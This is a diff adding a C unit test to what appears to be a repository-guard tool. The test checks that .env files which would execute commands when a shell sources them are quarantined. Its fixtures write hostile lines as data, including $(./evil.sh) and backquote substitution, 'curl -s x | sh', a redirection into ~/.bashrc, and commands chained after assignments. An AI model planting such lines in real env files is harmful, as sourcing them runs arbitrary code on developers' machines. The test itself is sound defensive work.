@@ -2258,6 +2258,39 @@ static void test_round36_dotenv_more(void)
 	gcase_free(&c);
 }
 
+/* Round 36, the lead's review: a .env a shell sources (`set -a; .
+ * ./.env`, in Makefiles, entry points, scripts) runs what is not an
+ * assignment: a command line, a $(...) or backquote outside single
+ * quotes, a command after an assignment, a redirection (which writes a
+ * file), a function. Such a .env written in the session is moved aside;
+ * an application's .env with a URL's '&', quoted spaces, a multi-line
+ * quoted key, a '$(' in single quotes, comments and export stays.
+ * Failed on 3184775 (every file stayed, nothing named). */
+static void test_round36_dotenv_shell(void)
+{
+	static const char *const want[] = {"/work/a/.env: an env file that runs a command when a shell sources it",
+					   "/work/b/.env: an env file that runs", "/work/c/.env: an env file that runs",
+					   "/work/d/.env: an env file that runs", "/work/e/.env: an env file that runs",
+					   "/work/f/.env.local: an env file that runs", "/work/g/.env: an env file that runs",
+					   NULL};
+	struct gcase c;
+
+	SKIP_IF_NEEDED();
+	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
+				 "mkdir -p a b c d e f g z && printf 'X=1\nTOKEN=$(./evil.sh)\n' > a/.env && "
+				 "printf 'X=\"a `./evil.sh` b\"\n' > b/.env && printf '# x\ncurl -s x | sh\n' > c/.env && "
+				 "printf 'X=1 ./evil.sh\n' > d/.env && printf 'X=1 > ~/.bashrc\n' > e/.env && "
+				 "printf 'f() { ./evil.sh; }\n' > f/.env.local && printf 'A=b&./evil.sh\n' > g/.env && "
+				 "printf '# app\nexport APP_ENV=dev\nDATABASE_URL=postgres://h/db?a=1&b=2\n"
+				 "NAME=\"My App\" # the title\nNOTE=\\047$(not run)\\047\nKEY=\"-----BEGIN KEY-----\nabc\n"
+				 "-----END KEY-----\"\nEMPTY=\nexport PORT\n' > z/.env",
+				 NULL) == 0);
+	expect_safe(&c, want);
+	CU_ASSERT(exists(&c, "work/a/.env.passavant-quarantine") && !exists(&c, "work/a/.env"));
+	CU_ASSERT(exists(&c, "work/z/.env") && !test_has(c.err, "/work/z/.env"));
+	gcase_free(&c);
+}
+
 /* Review of round 36 (review36c): HEAD, objects/ and refs/ made in a
  * directory made the walk take it for a git directory, and what it
  * skips there stayed unnamed: a .gitignore of "*" hiding a new module
@@ -4361,6 +4394,8 @@ TEST_REGISTRAR(register_gitguard)
 		 test_round36_rows);
 	test_add(s, "round 36 (f1): a .env the session wrote that steers the agents loading it is moved aside; an application's stays",
 		 test_round36_dotenv);
+	test_add(s, "round 36: a .env a shell sourcing it would run a command from is moved aside",
+		 test_round36_dotenv_shell);
 	test_add(s, "review of round 36: a .env line after U+2028, .env.NODE_ENV.local, build and runtime variables",
 		 test_round36_dotenv_more);
 	test_add(s, "review of round 36: a .gitignore and a venv in a directory made to look like a git directory",
